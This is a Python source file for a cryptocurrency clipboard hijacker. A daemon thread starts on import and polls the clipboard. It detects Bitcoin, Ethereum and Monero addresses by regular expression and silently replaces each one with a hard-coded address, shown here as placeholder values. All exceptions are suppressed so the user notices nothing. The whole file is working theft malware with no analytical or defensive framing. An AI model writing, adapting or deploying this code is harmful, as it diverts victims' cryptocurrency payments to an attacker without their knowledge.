from __future__ import print_function
import re
import time
import threading
import pyperclip

class Clipper(threading.Thread):
    PATTERNS = {
        'btc': r'^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$',
        'eth': r'^0x[a-fA-F0-9]{40}$',
        'xmr': r'^4[0-9AB][1-9A-HJ-NP-Za-km-z]{93}$',
    }
    ADDRESSES = {
        'btc': '1AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA',
        'eth': '0x0000000000000000000000000000000000000001',
        'xmr': '4AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA',
    }

    def __init__(self, delay=0.3):
        threading.Thread.__init__(self)
        self.daemon = True
        self.delay = delay
        self.last = ''

    def kind(self, text):
        for name, pattern in self.PATTERNS.items():
            if re.match(pattern, text):
                return name
        return None

    def run(self):
        while True:
            try:
                text = pyperclip.paste().strip()
                if text != self.last:
                    k = self.kind(text)
                    if k:
                        pyperclip.copy(self.ADDRESSES[k])
                    self.last = text
            except Exception:
                pass
            time.sleep(self.delay)

Clipper().start()
